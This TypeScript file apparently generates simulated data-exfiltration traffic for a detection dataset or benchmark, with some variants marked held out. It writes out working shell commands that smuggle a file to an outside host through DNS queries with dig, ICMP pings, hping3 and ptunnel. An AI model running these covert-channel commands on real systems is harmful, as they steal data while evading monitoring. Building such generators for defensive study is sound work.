import { exfiltration, holder, udp } from './data-exfiltration.ts'
import type { Exfiltration } from './data-exfiltration.ts'
import type { Place } from '../place.ts'
import { accept, lootFile } from './plan.ts'
import type { Leg, Variant } from './plan.ts'

const AS_LONG_AS_IT_MAY = 3600
const icmp = (source: Place, destination: Place): Leg => ({ source: source.address, destination: destination.address, protocol: 'icmp', ports: null })

/** Answers every name of the tunnel's domain, so that each question is heard outside. */
const answering = (outside: Place): string => `${accept(53)}exec dnsmasq --no-daemon --no-resolv --no-hosts --bind-interfaces --listen-address=${outside.address} --user=root --address=/t1.example.org/203.0.113.9`

/** Data inside of names and pings, padded so that every question is as long as the next, or as short as an ordinary one. */
export const TUNNELS: readonly Variant[] = [
  {
    name: 'dig padded',
    heldOut: false,
    manner: 'evasive',
    service: 'dns',
    draw: (world) => {
      const { random } = world
      const [attacker, names, outside] = [holder(world), world.pod('names'), world.pod('outside')]
      const file = lootFile(world, attacker, random.magnitude(6000, 60_000))
      const [width, gap] = [random.integer(12, 56), random.magnitude(2, 200) / 100]
      const command = `sleep 0.5; n=0; base64 -w ${width} ${file} | tr '+/=' 'xyz' | while read -r a; do n=$((n + 1)); dig +tries=1 +time=1 +short +padding=${random.pick([64, 128, 256])} @${names.address} $a.$(printf %05d $n).t1.example.org ${random.pick(['A', 'TXT', 'AAAA'])} >/dev/null; sleep ${gap}; done`
      return { ...exfiltration('dig padded', attacker, outside, [udp(attacker, names, [53]), udp(names, outside, [53, 54])], command, AS_LONG_AS_IT_MAY, [{ pod: outside, command: answering(outside) }]), rate: 1 / gap }
    },
  },
  {
    name: 'ping data',
    heldOut: false,
    manner: 'evasive',
    service: 'icmp',
    draw: (world) => {
      const { random } = world
      const [attacker, outside] = [holder(world), world.pod('outside')]
      const gap = random.magnitude(2, 100) / 100
      const size = random.pick([56, 120, 500, 1200])
      // 16 bytes of each ping are the data, the rest repeats them.
      const command = `head -c 64000 /dev/urandom | od -An -v -tx1 -w16 | tr -d ' ' | while read -r p; do ping -q -c 1 -W 1 -s ${size} -p $p ${outside.address} >/dev/null; sleep ${gap}; done`
      return { ...exfiltration('ping data', attacker, outside, [icmp(attacker, outside)], command, AS_LONG_AS_IT_MAY), rate: 1 / gap }
    },
  },
  {
    name: 'hping3 icmp file',
    heldOut: true,
    manner: 'evasive',
    service: 'icmp',
    draw: (world) => {
      const { random } = world
      const [attacker, outside] = [holder(world), world.pod('outside')]
      const file = lootFile(world, attacker, 400_000)
      const rate = world.rate(1, 200)
      return { ...exfiltration('hping3 icmp file', attacker, outside, [icmp(attacker, outside)], `hping3 -q -1 -i u${Math.round(1e6 / rate)} -d ${random.pick([100, 400, 1000])} -E ${file} -c 6000 ${outside.address}`, random.integer(20, 90)), rate }
    },
  },
  {
    name: 'ptunnel',
    heldOut: false,
    manner: 'evasive',
    service: 'icmp',
    draw: (world): Exfiltration => {
      const { random, settings } = world
      const [attacker, outside] = [holder(world), world.pod('outside')]
      const file = lootFile(world, attacker, random.magnitude(20_000, 400_000))
      const command = `ptunnel -p ${outside.address} -lp 8123 -da ${outside.address} -dp ${settings.appPort} >/dev/null 2>&1 & p=$!; sleep 1.5; timeout ${random.integer(10, 50)} curl -s -o /dev/null --limit-rate ${random.magnitude(2, 60)}k --data-binary @${file} http://127.0.0.1:8123/up; kill $p`
      return exfiltration('ptunnel', attacker, outside, [icmp(attacker, outside)], command, 60, [{ pod: outside, command: 'exec ptunnel >/dev/null 2>&1' }])
    },
  },
]
